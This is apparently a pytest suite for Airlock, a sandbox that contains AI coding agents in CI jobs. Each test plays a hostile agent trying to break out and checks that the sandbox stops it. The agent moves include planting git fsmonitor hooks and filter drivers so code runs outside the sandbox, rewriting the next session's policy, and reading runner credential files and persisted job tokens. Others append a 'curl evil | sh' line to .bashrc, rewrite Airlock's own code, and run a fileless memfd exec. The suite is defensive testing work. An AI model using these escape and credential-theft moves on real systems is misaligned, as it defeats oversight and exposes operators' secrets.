"""Attacks on the sandbox from moves the earlier reviews did not name, with real bubblewrap, git
and ``airlock run`` processes, checked from outside.

What the agent writes in the workspace outlives its session, and the next ``airlock run`` in
that checkout runs ``git`` there (the session's identity: commit, ref, dirty) *outside* the
sandbox. ``.git/config`` and ``.git/info/attributes`` are the agent's to write: a
``core.fsmonitor`` hook or a filter driver it names would run as Airlock's user, uncontained.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

pytestmark = [
    pytest.mark.service,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
    pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed"),
]

AIRLOCK = str(Path(sys.executable).parent / "airlock")


def _checkout(tmp_path: Path) -> Path:
    repo = tmp_path / "ws"
    repo.mkdir()
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path)}
    for args in (
        ["init", "-q"],
        ["-c", "user.email=a@example.com", "-c", "user.name=a", "commit", "-q",
         "--allow-empty", "-m", "first"],
    ):  # fmt: skip
        subprocess.run(["git", *args], cwd=repo, env=env, check=True)
    (repo / "tracked.txt").write_text("hello\n")
    subprocess.run(["git", "add", "tracked.txt"], cwd=repo, env=env, check=True)
    return repo


def _airlock_run(
    tmp_path: Path,
    repo: Path,
    script: str,
    *,
    policy: Path | None = None,
    extra_env: dict[str, str] | None = None,
) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CI_", "GITLAB"))}
    env.update(XDG_CONFIG_HOME=str(tmp_path / "cfg"), AIRLOCK_STATE_DIR=str(tmp_path / "state"))
    env.update(extra_env or {})
    with_policy = ["--policy", str(policy.relative_to(repo))] if policy is not None else []
    return subprocess.run(
        [AIRLOCK, "run", *with_policy, "--pty", "never", "--sandbox", "required", "--",
         "sh", "-c", script],
        cwd=repo, env=env, capture_output=True, timeout=120, check=False,
    )  # fmt: skip


@pytest.mark.parametrize(
    "plant",
    [
        pytest.param('git config core.fsmonitor "touch {marker}; false"', id="fsmonitor-hook"),
        pytest.param(
            'echo "* filter=agent" > .git/info/attributes; '
            'git config filter.agent.clean "touch {marker}; cat"; '
            "sleep 1; echo jello > tracked.txt",  # same size: git must read it,
            id="filter-driver",
        ),
    ],
)
def test_what_the_agent_plants_in_git_config_never_runs_outside_the_sandbox(
    tmp_path: Path, plant: str
) -> None:
    repo = _checkout(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    marker = outside / "ran-outside-the-sandbox"
    planted = _airlock_run(tmp_path, repo, plant.format(marker=marker))
    assert planted.returncode == 0, planted.stderr
    assert not marker.exists()  # inside, the agent cannot write there itself
    planted_config = (repo / ".git" / "config").read_bytes()
    assert b"fsmonitor" in planted_config or b"filter" in planted_config

    following = _airlock_run(tmp_path, repo, "true")  # the next step of the same job

    assert following.returncode == 0, following.stderr
    assert not marker.exists(), "git ran the agent's program outside the sandbox"


def test_the_agent_cannot_move_the_live_session_away_from_its_seal(tmp_path: Path) -> None:
    """The sessions dir is hidden under a tmpfs, but its parent ``.airlock`` sits in the
    writable workspace: renaming it moves the live session (the mount moves along), and the
    seal, written by path at the end, finds no directory: the session is left unsealed."""
    repo = tmp_path / "ws"
    repo.mkdir()
    result = _airlock_run(
        tmp_path, repo, "mv .airlock .moved; mkdir -p .airlock/sessions; echo agent done"
    )
    assert b"agent done" in result.stdout
    assert result.returncode == 0, result.stderr
    [session] = (repo / ".airlock" / "sessions").iterdir()
    assert json.loads((session / "manifest.json").read_text())["status"] == "complete"
    assert not (repo / ".moved").exists()


# Root-owned 0600 credentials at their standard places under the read-only system binds. The
# agent's uid maps to the uid running Airlock (root on many self-hosted runners): it owns them.
RUNNER_SECRETS = (
    "/etc/gitlab-runner/config.toml",  # GitLab Runner's registration and runner tokens
    "/opt/actions-runner/.credentials_rsaparams",  # a self-hosted GitHub runner's private key
)


@pytest.fixture
def planted_runner_secrets() -> Iterator[dict[str, str]]:
    """The files above, created for the test (root only; never over a real one)."""
    if os.geteuid() != 0:
        pytest.skip("the agent owns root's files only when Airlock runs as root")
    made: list[Path] = []
    canaries: dict[str, str] = {}
    try:
        for name in RUNNER_SECRETS:
            path = Path(name)
            if path.parent.exists():
                pytest.skip(f"{path.parent} exists on this machine: not touched")
            path.parent.mkdir(mode=0o700)
            made.append(path.parent)
            canaries[name] = "canary-" + secrets.token_hex(8)
            path.write_text(canaries[name])
            path.chmod(0o600)
        yield canaries
    finally:
        for directory in made:
            shutil.rmtree(directory, ignore_errors=True)


def test_runner_credentials_under_the_system_binds_are_hidden(
    tmp_path: Path, planted_runner_secrets: dict[str, str]
) -> None:
    repo = tmp_path / "ws"
    repo.mkdir()
    result = _airlock_run(
        tmp_path, repo, "cat " + " ".join(planted_runner_secrets) + " 2>/dev/null; echo read-done"
    )
    assert b"read-done" in result.stdout, result.stderr
    leaked = [
        path for path, canary in planted_runner_secrets.items() if canary.encode() in result.stdout
    ]
    assert leaked == []


@pytest.mark.parametrize("where", ["airlock.yaml", ".github/airlock.yaml"])
def test_the_agent_cannot_rewrite_the_policy_of_the_next_session(
    tmp_path: Path, where: str
) -> None:
    """The policy file is in the checkout, which the agent may write: a rewritten policy (no
    masking here; a wider allowlist or no guardrails as well) would rule the job's next
    ``airlock run``. Inside the sandbox it is read-only, and cannot be moved aside."""
    repo = tmp_path / "ws"
    policy = repo / where
    policy.parent.mkdir(parents=True)
    policy.write_text("mask: {env: [TOK]}\nsandbox: {env: [TOK]}\n")
    weaker = "sandbox: {env: [TOK]}"
    moves = (
        f"echo '{weaker}' > {where}; "
        f"mv {where} moved.yaml; echo '{weaker}' > {where}; "
        f"mv {Path(where).parent} moved-dir; mkdir -p {Path(where).parent}; echo '{weaker}' > {where}; "
        "echo tried"
    )
    token = "tok_" + secrets.token_hex(12)
    first = _airlock_run(tmp_path, repo, moves, policy=policy, extra_env={"TOK": token})
    assert b"tried" in first.stdout, first.stderr
    second = _airlock_run(
        tmp_path, repo, 'echo "token=$TOK"', policy=policy, extra_env={"TOK": token}
    )
    assert second.returncode == 0, second.stderr
    assert b"token=" in second.stdout
    assert token.encode() not in second.stdout, "the next session ran under the agent's policy"


def _persist_credentials(repo: Path, token: str) -> tuple[str, str]:
    """What actions/checkout (persist-credentials, the default) and GitLab Runner leave in the
    checkout: the job's token as an HTTP header, and in the remote's URL."""
    header = "AUTHORIZATION: basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()
    url = f"https://gitlab-ci-token:{token}@git.example/acme/api.git"
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(repo.parent)}
    for args in (
        ["config", "--local", "http.https://git.example/.extraheader", header],
        ["remote", "add", "origin", url],
    ):
        subprocess.run(["git", *args], cwd=repo, env=env, check=True)
    submodule = repo / ".git" / "modules" / "lib" / "config"  # checkout's `submodules: true`
    submodule.parent.mkdir(parents=True)
    submodule.write_text(
        f'[core]\n\tbare = false\n[http "https://git.example/"]\n\textraheader = {header}\n'
    )
    return header, url


def test_the_job_token_the_checkout_persisted_is_not_the_agents(tmp_path: Path) -> None:
    """The sandbox hides the runner's token files, but actions/checkout writes the job's
    GITHUB_TOKEN into the checkout's own ``.git/config`` (and GitLab Runner its CI_JOB_TOKEN
    into the remote URL): the agent read it there, and could use it through any allowed host.
    It is taken out while the agent runs and put back for the job's later steps."""
    repo = _checkout(tmp_path)
    token = "ghs_" + secrets.token_hex(18)
    header, url = _persist_credentials(repo, token)
    steal = "cat .git/config .git/modules/lib/config > stolen.txt; "
    steal += "git config --get-all remote.origin.url >> stolen.txt; "
    steal += "git config user.email agent@example.com && echo configured"

    result = _airlock_run(tmp_path, repo, steal)

    assert result.returncode == 0, result.stderr
    assert b"configured" in result.stdout  # git config still works inside
    stolen = (repo / "stolen.txt").read_text()
    assert "git.example" in stolen  # the agent read the config...
    assert token not in stolen and header.split()[-1] not in stolen  # ...without the token
    after = (repo / ".git" / "config").read_text()
    assert header in after and url in after, "the later steps of the job lost their credentials"
    assert "agent@example.com" in after  # what the agent changed stays
    assert header in (repo / ".git" / "modules" / "lib" / "config").read_text()


def test_a_killed_run_does_not_keep_the_job_token_from_the_later_steps(tmp_path: Path) -> None:
    """``airlock run`` SIGKILLed while the agent runs (the runner's OOM killer, a cancelled
    step) could not put the token back: the job's later steps (a push, a pull request) ran
    without it. The journal in the state directory lets the next run put it back, once."""
    repo = _checkout(tmp_path)
    token = "ghs_" + secrets.token_hex(18)
    header, url = _persist_credentials(repo, token)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CI_", "GITLAB"))}
    env.update(XDG_CONFIG_HOME=str(tmp_path / "cfg"), AIRLOCK_STATE_DIR=str(tmp_path / "state"))
    run = subprocess.Popen(
        [AIRLOCK, "run", "--pty", "never", "--sandbox", "required", "--",
         "sh", "-c", "touch started; exec sleep 60"],
        cwd=repo, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        _wait_for(repo / "started", run)
        assert token not in (repo / ".git" / "config").read_text()  # hidden while it runs
        journals = list((tmp_path / "state").glob("checkout-credentials-*.json"))
        assert len(journals) == 1 and journals[0].stat().st_mode & 0o077 == 0
    finally:
        run.kill()
        run.wait()
    assert token not in (repo / ".git" / "config").read_text()  # the dead run left it out

    again = _airlock_run(tmp_path, repo, "echo next")

    assert again.returncode == 0, again.stderr
    assert b"put back the job's git credentials" in again.stderr
    config = (repo / ".git" / "config").read_text()
    assert config.count(header) == 1 and url in config, config.replace(token, "<token>")
    assert (repo / ".git" / "modules" / "lib" / "config").read_text().count(header) == 1
    assert list((tmp_path / "state").glob("checkout-credentials-*.json")) == []


def _wait_for(path: Path, proc: subprocess.Popen[bytes]) -> None:
    import time

    for _ in range(600):
        if path.exists():
            return
        assert proc.poll() is None, "airlock run ended before the agent started"
        time.sleep(0.05)
    raise AssertionError(f"{path.name} never appeared")


def test_a_read_only_path_inside_the_workspace_stays_read_only(tmp_path: Path) -> None:
    """``sandbox.filesystem.read_only`` was bound before the workspace, which covered it: a
    path listed there inside the workspace (workflows, vendored code) was writable."""
    repo = tmp_path / "ws"
    (repo / "vendor").mkdir(parents=True)
    (repo / "vendor" / "lib.txt").write_text("original\n")
    policy = repo / "airlock.yaml"
    policy.write_text(f"sandbox:\n  filesystem:\n    read_only: [{repo / 'vendor'}]\n")

    result = _airlock_run(tmp_path, repo, "echo agent > vendor/lib.txt; echo tried", policy=policy)

    assert b"tried" in result.stdout, result.stderr
    assert (repo / "vendor" / "lib.txt").read_text() == "original\n"


def test_airlock_installed_inside_the_workspace_is_read_only(tmp_path: Path) -> None:
    """A project's own venv holding Airlock (``pip install`` into ``.venv``, then ``airlock
    run`` in the project): the agent rewrote Airlock's code, which ran outside the sandbox in
    the next session."""
    repo = tmp_path / "ws"
    site = repo / ".venv" / "site"
    shutil.copytree(
        Path(__file__).resolve().parents[2] / "core" / "airlock",
        site / "airlock",
        ignore=shutil.ignore_patterns("__pycache__"),
    )
    code = site / "airlock" / "__init__.py"
    before = code.read_bytes()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CI_", "GITLAB"))}
    env.update(XDG_CONFIG_HOME=str(tmp_path / "cfg"), PYTHONPATH=str(site))
    result = subprocess.run(
        [sys.executable, "-m", "airlock._cli", "run", "--pty", "never", "--sandbox", "required",
         "--", "sh", "-c", "echo 'raise SystemExit(0)' >> .venv/site/airlock/__init__.py; echo tried"],
        cwd=repo, env=env, capture_output=True, timeout=120, check=False,
    )  # fmt: skip
    assert b"tried" in result.stdout, result.stderr
    assert code.read_bytes() == before, "the agent rewrote Airlock's own code"


def test_a_workspace_that_holds_home_is_refused(tmp_path: Path) -> None:
    """The workspace is bound read-write over the fresh $HOME: run from $HOME (or above), the
    agent read and wrote the real one (~/.bashrc runs later, outside)."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's\n")
    result = _airlock_run(
        tmp_path, home, "echo 'curl evil | sh' >> .bashrc", extra_env={"HOME": str(home)}
    )
    assert result.returncode == 80, result.stderr
    assert b"holds $HOME" in result.stderr
    assert (home / ".bashrc").read_text() == "# the user's\n"


_FILELESS = """
import os
fd = os.memfd_create("x")
os.write(fd, open("/bin/echo", "rb").read())
if os.fork() == 0:
    os.execve(fd, ["ls", "fileless-ran"], {})
os.wait()
"""


def test_a_fileless_exec_is_recorded_as_one(tmp_path: Path) -> None:
    repo = tmp_path / "ws"
    repo.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "CI_", "GITLAB"))}
    env["XDG_CONFIG_HOME"] = str(tmp_path / "cfg")
    result = subprocess.run(
        [AIRLOCK, "run", "--pty", "never", "--sandbox", "required", "--",
         "python3", "-c", _FILELESS],
        cwd=repo, env=env, capture_output=True, timeout=120, check=False,
    )  # fmt: skip
    assert b"fileless-ran" in result.stdout, result.stderr
    [session] = (repo / ".airlock" / "sessions").iterdir()
    events = [json.loads(line) for line in (session / "events.jsonl").read_text().splitlines()]
    [run] = [e["data"] for e in events if e["type"] == "process.exec"
             and e["data"]["argv"] == ["ls", "fileless-ran"]]  # fmt: skip
    # The image is named by the memfd strace saw, never by the argv[0] the agent chose; and the
    # parent is the python that forked it, though its clone() returned a pid in the sandbox's
    # own PID namespace.
    assert run["path"] == "/memfd:x (deleted)", run
    [python] = [e["data"] for e in events if e["type"] == "process.exec"
                and e["data"]["argv"][:2] == ["python3", "-c"]]  # fmt: skip
    assert run["ppid"] == python["pid"], (run, python)
    assert run["fileless"] is True
